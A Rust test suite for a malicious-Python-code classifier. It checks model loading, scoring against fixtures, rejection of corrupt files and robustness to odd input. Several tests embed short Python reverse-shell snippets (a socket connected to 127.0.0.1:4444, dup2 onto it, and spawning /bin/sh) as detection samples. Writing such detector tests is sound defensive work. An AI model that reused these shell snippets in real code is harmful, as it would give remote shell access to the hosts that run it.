//! The committed model (rules/python-model.bin): loads, gives the committed verdicts and scores
//! (tests/cases.tsv, tests/expected_scores.tsv), refuses corrupt files, never panics.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use python_model::{cases::Case, Model, ModelError, MAX_SCAN_BYTES};

/// Scores may differ from the fixture by this much (float summation order across platforms).
const TOLERANCE: f32 = 1e-4;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn model_path() -> PathBuf {
    repo().join("rules/python-model.bin")
}

fn model() -> Model {
    Model::load(&model_path()).expect("the committed model loads")
}

fn cases() -> Vec<Case> {
    let text = std::fs::read_to_string(repo().join("python-model/tests/cases.tsv")).unwrap();
    python_model::cases::parse(&text, &repo()).unwrap_or_else(|e| panic!("cases.tsv: {e}"))
}

fn expected_scores() -> (String, HashMap<String, f32>) {
    let text = std::fs::read_to_string(repo().join("python-model/tests/expected_scores.tsv")).unwrap();
    let mut version = String::new();
    let mut m = HashMap::new();
    for l in text.lines() {
        if let Some(v) = l.strip_prefix("# model\t") {
            version = v.to_string();
            continue;
        }
        if l.starts_with('#') || l.is_empty() {
            continue;
        }
        let (id, s) = l.split_once('\t').unwrap();
        m.insert(id.to_string(), s.parse().unwrap());
    }
    (version, m)
}

#[test]
fn committed_model_loads() {
    let m = model();
    assert!(m.version().starts_with("py-lr-"), "{}", m.version());
    assert!(m.threshold() > 0.0 && m.threshold() < 1.0);
    assert!(m.nonzero_weights() > 1000);
    let size = std::fs::metadata(model_path()).unwrap().len();
    assert!(size < 1 << 20, "model is {size} bytes");
}

#[test]
fn verdicts_match_committed_expectations() {
    let m = model();
    let mut wrong = Vec::new();
    for c in cases() {
        let s = m.score(&c.code);
        assert!((0.0..=1.0).contains(&s));
        if m.is_malicious(s) != c.malicious {
            wrong.push(format!("{} (score {s:.4}, threshold {:.4})", c.id, m.threshold()));
        }
    }
    assert!(wrong.is_empty(), "wrong verdicts: {wrong:?}");
}

#[test]
fn scores_match_fixture() {
    let m = model();
    let (version, expected) = expected_scores();
    assert_eq!(version, m.version(), "expected_scores.tsv was generated for another model: retrain");
    let cases = cases();
    assert_eq!(expected.len(), cases.len(), "expected_scores.tsv does not cover cases.tsv: retrain");
    for c in cases {
        let want = *expected.get(&c.id).unwrap_or_else(|| panic!("no expected score for {}", c.id));
        let got = m.score(&c.code);
        assert!((got - want).abs() <= TOLERANCE, "{}: score {got}, fixture {want}", c.id);
    }
}

#[test]
fn scoring_is_deterministic_and_buffer_independent() {
    let m = model();
    let mut fv = python_model::FeatureVec::new();
    for c in cases() {
        let a = m.score(&c.code);
        let b = m.score_with(&c.code, &mut fv);
        let c2 = m.score(&c.code);
        assert_eq!(a, b);
        assert_eq!(a, c2);
    }
}

fn bytes() -> Vec<u8> {
    std::fs::read(model_path()).unwrap()
}

#[test]
fn rejects_flipped_byte() {
    let good = bytes();
    // a byte in the header, in the body's start and in the weights
    for at in [9usize, 13, 20, 30, good.len() / 2, good.len() - 1] {
        let mut b = good.clone();
        b[at] ^= 0x20;
        let err = Model::from_bytes(&b).expect_err("corrupt model accepted");
        assert!(!err.to_string().is_empty());
    }
    let mut b = good.clone();
    b[good.len() / 2] ^= 0x01;
    assert!(matches!(Model::from_bytes(&b), Err(ModelError::ChecksumMismatch { .. })));
}

#[test]
fn rejects_truncated_and_padded() {
    let good = bytes();
    for n in [0, 4, 8, 23, 24, 100, good.len() - 1] {
        assert!(Model::from_bytes(&good[..n]).is_err(), "truncated to {n} accepted");
    }
    assert!(matches!(Model::from_bytes(&good[..good.len() - 1]), Err(ModelError::LengthMismatch { .. })));
    let mut padded = good.clone();
    padded.push(0);
    assert!(matches!(Model::from_bytes(&padded), Err(ModelError::LengthMismatch { .. })));
}

#[test]
fn rejects_wrong_magic() {
    let mut b = bytes();
    b[0] = b'X';
    assert!(matches!(Model::from_bytes(&b), Err(ModelError::BadMagic)));
    assert!(matches!(Model::from_bytes(b"not a model at all, just some text"), Err(ModelError::BadMagic)));
}

#[test]
fn rejects_other_format_version() {
    let mut b = bytes();
    b[8] = 99;
    assert!(matches!(Model::from_bytes(&b), Err(ModelError::UnsupportedFormat(99, _))));
}

#[test]
fn load_reports_missing_file() {
    let err = Model::load(Path::new("/nonexistent/python-model.bin")).unwrap_err();
    assert!(matches!(err, ModelError::Io { .. }));
    assert!(err.to_string().contains("/nonexistent/python-model.bin"));
}

#[test]
fn encode_decode_round_trip() {
    let w = [(7u32, 0.5f32), (3, -1.25), (python_model::N_BUCKETS as u32 - 1, 2.0), (100, 0.0)];
    let bytes = python_model::encode_model(python_model::FEATURE_VERSION, "py-lr-test", 0.25, -0.5, &w);
    let m = Model::from_bytes(&bytes).unwrap();
    assert_eq!(m.threshold(), 0.25);
    assert_eq!(m.nonzero_weights(), 3);
    assert!(m.version().starts_with("py-lr-test-"));
    assert!(m.is_malicious(0.25) && !m.is_malicious(0.2499));
}

/// xorshift, no external crates
fn rng(seed: &mut u64) -> u64 {
    *seed ^= *seed << 13;
    *seed ^= *seed >> 7;
    *seed ^= *seed << 17;
    *seed
}

#[test]
fn never_panics_on_random_or_odd_input() {
    let m = model();
    let mut seed = 0x1234_5678_9abc_def1u64;
    let alphabet: &[u8] = b"'\"\\#()[]{}.,:;=+-*/%<>!@&|^~`0123456789abcxyzIl_ \t\n\r\x00\xff\xc3\xa9rbuf";
    for round in 0..300 {
        let len = (rng(&mut seed) % 4096) as usize;
        let v: Vec<u8> = if round % 2 == 0 {
            (0..len).map(|_| rng(&mut seed) as u8).collect()
        } else {
            (0..len).map(|_| alphabet[(rng(&mut seed) % alphabet.len() as u64) as usize]).collect()
        };
        let s = m.score(&v);
        assert!(s.is_finite() && (0.0..=1.0).contains(&s));
    }
    // pathological shapes
    let cases: Vec<Vec<u8>> = vec![
        vec![],
        b"'".to_vec(),
        b"\"\"\"".to_vec(),
        b"r'\\".to_vec(),
        b"0x".to_vec(),
        b"1e".to_vec(),
        b"\\".to_vec(),
        vec![b'('; 100_000],
        vec![b'"'; 100_001],
        vec![b'a'; MAX_SCAN_BYTES * 2],
        "é\u{0}ü".repeat(1000).into_bytes(),
        b"http://".repeat(10_000),
        b"1.2.3.4.5.6.7.8.9".repeat(1000),
    ];
    for c in cases {
        let s = m.score(&c);
        assert!(s.is_finite() && (0.0..=1.0).contains(&s));
    }
}

#[test]
fn only_the_first_max_scan_bytes_count() {
    let mut a = b"import os\nprint('x')\n".repeat(MAX_SCAN_BYTES / 10);
    a.truncate(MAX_SCAN_BYTES);
    let mut b = a.clone();
    b.extend_from_slice(b"\nimport socket,os,pty;pty.spawn('/bin/sh')\n");
    let (mut fa, mut fb) = (python_model::FeatureVec::new(), python_model::FeatureVec::new());
    python_model::features(&a, &mut fa);
    python_model::features(&b, &mut fb);
    // the tail beyond MAX_SCAN_BYTES only flips the "truncated" statistic
    let only_a = fa.indices().iter().filter(|i| !fb.indices().contains(i)).count();
    let only_b = fb.indices().iter().filter(|i| !fa.indices().contains(i)).count();
    assert!(only_a <= 1 && only_b <= 1, "{only_a} {only_b}");
}

/// A model trained on the behaviour features (feature version 5) is scored with them and explains
/// them; a lexical model (version 1) is scored without them, whatever its weights say; versions
/// this build cannot extract (2, which read a wider window, and newer ones) are refused.
#[test]
fn behaviour_features_count_only_for_models_trained_with_them() {
    let bucket = python_model::behaviour_bucket("socket>dup2");
    let weights = [(bucket, 5.0f32)];
    let v5 = Model::from_bytes(&python_model::encode_model(python_model::FEATURE_VERSION, "t", 0.5, 0.0, &weights)).unwrap();
    let v1 = Model::from_bytes(&python_model::encode_model(python_model::LEXICAL_FEATURE_VERSION, "t", 0.5, 0.0, &weights)).unwrap();
    let shell = b"import socket,os,pty\ns=socket.socket()\ns.connect(('127.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n";
    assert_eq!((v5.feature_version(), v1.feature_version()), (5, 1));
    assert!(v5.score(shell) > 0.99, "{}", v5.score(shell));
    assert!((v1.score(shell) - 0.5).abs() < 1e-6, "{}", v1.score(shell));
    assert!(v5.explain(shell, 3).iter().any(|(f, c)| f == "beh:socket>dup2" && *c == 5.0), "{:?}", v5.explain(shell, 3));
    assert!(v1.explain(shell, 3).is_empty());
    for refused in [2, 3, 4, python_model::FEATURE_VERSION + 1] {
        let bytes = python_model::encode_model(refused, "t", 0.5, 0.0, &weights);
        assert!(matches!(Model::from_bytes(&bytes), Err(ModelError::FeatureVersion { .. })), "version {refused}");
    }
}

/// The behaviour pass reads the first `MAX_BEHAVIOUR_BYTES` only, cut at a line end: a reverse
/// shell after that point adds no behaviour fact (the lexical features still see it), and one
/// before it is found however much follows.
#[test]
fn behaviour_pass_reads_a_bounded_window() {
    use python_model::behaviour::{behaviours, MAX_BEHAVIOUR_BYTES};
    let shell = "import socket,os,pty\ns=socket.socket()\ns.connect(('127.0.0.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n";
    let filler = "x = 1\n".repeat(MAX_BEHAVIOUR_BYTES / 6 + 1);
    let late = format!("{filler}{shell}");
    let early = format!("{shell}{filler}{filler}");
    assert!(behaviours(shell.as_bytes()).iter().any(|f| f == "socket>dup2"));
    assert!(behaviours(early.as_bytes()).iter().any(|f| f == "socket>dup2"));
    assert!(!behaviours(late.as_bytes()).iter().any(|f| f == "socket>dup2"), "{:?}", behaviours(late.as_bytes()));
}
